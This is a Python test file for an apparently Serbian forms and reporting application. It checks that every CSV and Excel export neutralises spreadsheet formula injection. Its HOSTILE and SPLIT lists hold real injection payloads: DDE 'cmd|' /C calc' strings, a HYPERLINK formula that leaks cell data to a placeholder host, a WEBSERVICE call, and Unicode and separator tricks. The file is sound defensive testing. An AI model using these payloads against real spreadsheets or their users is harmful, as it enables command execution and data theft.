# SPDX-License-Identifier: EUPL-1.2
"""No file that leaves the house runs anything in a spreadsheet, and numbers stay numbers in it.

CSV is written by one function, whose lines are opened here with every separator that a reader's
locale may use. Whatever writes a workbook is found in the source and has to be tried here, and
whatever hands a table out has to use one of these writers.
"""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import random
import re
import unicodedata
from collections.abc import Callable, Iterable, Iterator
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from tests.architecture.sources import ROOT
from vidik.core.downloads import FORMS, download
from vidik.core.spreadsheets import armed, csv_line, disarmed
from vidik.figures.methods.formats import Sheet, csv_lines, plain_csv_lines, xlsx_bytes
from vidik.forms.methods.workbook import write_workbook
from vidik.forms.methods.xlsform import xlsform_workbook
from vidik.forms.tests.samples import RESPONDENT, made

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n=", "＝", "＋", "－", "＠")
HOSTILE = [f"{start}cmd|' /C calc'!A{at}" for at, start in enumerate(STARTS)] + [
    '=HYPERLINK("http://x.invalid/?"&A1,"open")', "-2+3+cmd|' /C calc'!A0", "+1-1+A1", "@SUM(1+1)",
    '=WEBSERVICE("http://x.invalid")', "\t=1+1", "-", "=", "-1-1", "--1", "-1e9x",
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u2060@SUM(1+1)",
]  # fmt: skip
SPLIT = [
    f"x{separator}{space}{sign}cmd|' /C calc'!A0"
    for separator in (";", ",", "\t", "\n", "\r", "\r\n")
    for space in ("", " ", "\u00a0", "\u200b", '"', '""', "'")
    for sign in ("=", "+", "-", "@", "＝")
]
"""Texts that hold a formula behind what another locale takes for the end of a cell."""
HOSTILE += SPLIT[::7]
NUMBERS = [-3, 0, 17, Decimal("-2.5"), Decimal("1234.25")]
HARMLESS = ["-3", "-2.5", "-2,5", "-1.096", "-12.5%", "12", "a = b", "mail@x.invalid", ""]


def from_csv(content: bytes) -> Iterator[list[str]]:
    return csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))


def opened(content: bytes, separator: str) -> Iterator[str]:
    """Split a file as a spreadsheet does whose locale has that separator."""
    text = content.decode("utf-8-sig")
    for line in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from line
    # Some readers end a line or a quoted field wherever a sign for it stands.
    yield from re.split(rf"[{separator}\r\n]", text.replace('"', ""))


def runs(cell: str) -> bool:
    """Return whether a spreadsheet would take a cell for a formula."""
    shown = "".join(
        sign
        for sign in cell
        if sign != '"' and unicodedata.category(sign) not in {"Cf", "Cc", "Zs"}
    )
    sign = unicodedata.normalize("NFKC", shown[:1])
    return sign in {"=", "+", "-", "@"} and not re.fullmatch(r"-?[0-9.,]+%?", shown)


def check_csv(content: bytes) -> None:
    cells = [cell for line in from_csv(content) for cell in line]
    assert any("cmd|" in cell for cell in cells), "the hostile text is there"
    assert content.decode("utf-8-sig").startswith('"'), "every field is quoted"
    for separator in (",", ";", "\t"):
        assert [cell for cell in opened(content, separator) if runs(cell)] == []
    assert not any(cell.startswith("'-3") or cell == "'-2.5" for cell in cells)


def check_workbook(content: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book for line in sheet for cell in line]
    assert any("cmd|" in str(cell.value) for cell in cells), "the hostile text is there"
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [cell.coordinate for cell in cells if cell.hyperlink is not None] == []


def table() -> tuple[list[str], list[list[Any]]]:
    header = ["=title()", "text", *(f"n{at}" for at in range(len(NUMBERS)))]
    return header, [[text, text, *NUMBERS] for text in HOSTILE]


def check_numbers(content: bytes) -> None:
    """Require that every number of a workbook came as a number."""
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    found = {cell.value for line in sheet for cell in line if cell.data_type == "n"}
    assert {float(number) for number in NUMBERS} <= {
        float(value) for value in found if value is not None
    }


def core_downloads() -> None:
    header, rows = table()
    for form in FORMS:
        content = download("x", header, rows, form).content
        check_csv(content) if form == "csv" else check_workbook(content)
        if form == "xlsx":
            check_numbers(content)
        else:
            assert all(line[2:] == ["-3", "0", "17", "-2.5", "1234.25"]
                       for line in list(from_csv(content))[1:])  # fmt: skip


def figures_formats() -> None:
    header, rows = table()
    for lines in (csv_lines, plain_csv_lines):
        check_csv(b"".join(lines(header, rows)))
    content = xlsx_bytes([Sheet("=s", header, rows, notes=HOSTILE)], title="=t")
    check_workbook(content)
    check_numbers(content)


def report_register() -> None:
    from vidik.report.methods.register import to_csv
    from vidik.report.methods.tree import (
        Document,
        FigureRef,
        Paragraph,
        RegisterEntry,
        Section,
        TitlePage,
    )  # fmt: skip

    refs = tuple(
        FigureRef(text, RegisterEntry("figure", value="-3", measure=text), place=text)
        for text in HOSTILE
    )
    section = Section("s", "s", 1, "1", "Section", (Paragraph(refs),), ())
    title = TitlePage("t", "s", "p", "d", "e", "n", ())
    check_csv(to_csv(Document("en", "2024", title, (section,), ())).encode())


def report_charts() -> None:
    from vidik.report.methods.tree import Chart, ChartPoint, ChartSeries
    from vidik.report.methods.wordchart import workbook

    points = tuple(ChartPoint(Decimal(-3), None) for _text in HOSTILE)
    chart = Chart(
        code="c", anchor="c", label="Chart", number=1, kind="bar", caption=(), alt="", unit="",
        categories=tuple(HOSTILE), series=(ChartSeries("=cmd|", points),), percent=False,
        source=(), note=(),
    )  # fmt: skip
    check_workbook(workbook(chart))


def record_of_acts() -> None:
    from vidik.audit.types import Event
    from vidik.shell.views_record import _lines

    events = [
        Event(
            sequence=at, at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), actor=text, verb=text,
            subject_label=text, subject_key=text, request=text, payload={"a": text},
        )
        for at, text in enumerate(HOSTILE)
    ]  # fmt: skip
    check_csv("".join(_lines(iter(events))).encode())


def questionnaires_forms() -> None:
    check_workbook(xlsform_workbook(hostile_form()))


def questionnaires_workbook() -> None:
    check_workbook(write_workbook(hostile_form(), RESPONDENT, language="sr"))


def matters_registers() -> None:
    from vidik.forms.methods.books import Cell
    from vidik.forms.methods.importing_books import Head, Page, Register, Words, write_register

    heads = {1: Head("=a"), 2: Head("n")}
    rows = [(at, {1: Cell(text)}) for at, text in enumerate(HOSTILE, start=2)]
    rows += [
        (at, {2: Cell(float(number), "number")})
        for at, number in enumerate(NUMBERS, start=len(HOSTILE) + 2)
    ]
    faults = {line: [(1, text)] for line, text in enumerate(HOSTILE, start=2)}
    words = Words("=h", "=l", "=f", "=x", "=t", ["=s"], ["=c"] * 4, ["=f"] * 4, "=n", "=o")
    page = Page("p", "=about", heads, rows, faults)
    lists = {"=l": HOSTILE}
    listed = [(text,) * 4 for text in HOSTILE]
    check_workbook(write_register(Register(words, [page], lists, listed)))


def hostile_form() -> Any:
    rows: list[dict[str, str]] = [{"type": "begin_group", "name": "g", "label": HOSTILE[0]}]
    rows += [
        {"type": "text", "name": f"a{at}", "label": text.strip()} for at, text in enumerate(HOSTILE)
    ]
    return made(*rows, {"type": "end_group"})


WRITERS: dict[str, Callable[[], None]] = {
    "vidik/core/downloads.py": core_downloads,
    "vidik/figures/methods/formats.py": figures_formats,
    "vidik/report/methods/register.py": report_register,
    "vidik/report/methods/wordchart.py": report_charts,
    "vidik/shell/views_record.py": record_of_acts,
    "vidik/forms/methods/xlsform.py": questionnaires_forms,
    "vidik/forms/methods/workbook.py": questionnaires_workbook,
    "vidik/forms/methods/importing_books.py": matters_registers,
}
HANDS_OUT = {
    "vidik/figures/views/downloads.py": "vidik/figures/methods/formats.py",
    "vidik/forms/views/builder.py": "vidik/forms/methods/xlsform.py",
    "vidik/report/views.py": "vidik/report/methods/register.py",
    "vidik/shell/views_record.py": "vidik/shell/views_record.py",
}
NEVER_LEAVES = {
    # Lines that the figures room reads at once.
    "vidik/questionnaires/services/deciding.py",
}


def sources() -> Iterable[tuple[str, ast.Module]]:
    for path in sorted((ROOT / "vidik").rglob("*.py")):
        if "tests" not in path.parts and "migrations" not in path.parts:
            yield str(path.relative_to(ROOT)), ast.parse(path.read_text(encoding="utf-8"))


def calls(tree: ast.Module, names: set[str]) -> bool:
    """Return whether a module calls one of these functions, as `a.b` or as the bare name."""
    return any(
        isinstance(node, ast.Call)
        and (ast.unparse(node.func) in names or ast.unparse(node.func).split(".")[-1] in names)
        for node in ast.walk(tree)
    )


def test_csv_is_written_by_one_function() -> None:
    writing = {"csv.writer", "csv.DictWriter", "writer", "DictWriter"}
    assert {name for name, tree in sources() if calls(tree, writing)} == {
        "vidik/core/spreadsheets.py"
    }


def test_whatever_writes_a_table_is_tried_here() -> None:
    found = {name for name, tree in sources() if calls(tree, {"csv_line", "Workbook"})}
    assert found == set(WRITERS) | NEVER_LEAVES


def test_what_hands_a_table_out_is_known_with_the_writer_behind_it() -> None:
    """A page that names the type of CSV or Excel by itself is listed with its writer."""
    found = {
        name
        for name, tree in sources()
        if "/views" in name
        and any(
            isinstance(node, ast.Constant)
            and isinstance(node.value, str)
            and re.search(r"^text/csv;|spreadsheetml\.sheet$", node.value)
            for node in ast.walk(tree)
        )
    }
    assert found == set(HANDS_OUT)
    assert {writer for writer in HANDS_OUT.values() if writer not in WRITERS} == set()


@pytest.mark.parametrize("writer", list(WRITERS))
def test_no_text_is_a_formula_and_no_number_is_a_text(writer: str) -> None:
    WRITERS[writer]()


@pytest.mark.parametrize("text", [*HOSTILE, *SPLIT])
def test_what_begins_like_a_formula_is_disarmed_wherever_a_cell_may_begin(text: str) -> None:
    assert disarmed(text).replace("'", "") == text.replace("'", "")
    assert disarmed(text).count("'") > text.count("'")
    for place in range(3):
        cells = ["a", 'b "c"', "d"]
        cells[place] = text
        line = csv_line(cells).encode()
        for separator in (",", ";", "\t"):
            assert [cell for cell in opened(line, separator) if runs(cell)] == []


def test_disarming_is_undone_exactly() -> None:
    """What a file holds is read back as it was, apostrophes of its own included."""
    chance = random.Random(7)  # noqa: S311 - a row of texts, the same every time
    signs = "=+-@＝\t\r\n;,|'\" \u00a0\u200bab1"
    for _time in range(20_000):
        text = "".join(chance.choices(signs, k=chance.randrange(9)))
        assert armed(disarmed(text)) == text
        assert not any(runs(part) for part in re.split("[;,\t\r\n]", disarmed(text)))


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert disarmed(text) == text
